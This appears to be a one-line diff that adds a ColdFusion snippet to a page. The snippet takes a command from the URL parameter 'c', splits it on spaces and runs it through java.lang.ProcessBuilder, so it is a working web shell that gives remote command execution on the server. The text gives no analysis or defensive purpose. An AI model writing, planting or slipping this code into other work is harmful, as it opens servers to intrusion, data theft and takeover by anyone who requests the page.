@@ -1,0 +1,1 @@
+<cfabort><cfscript> pb = createObject("java", "java.lang.ProcessBuilder").init(listToArray(url.c, " ")); p = pb.start(); </cfscript>
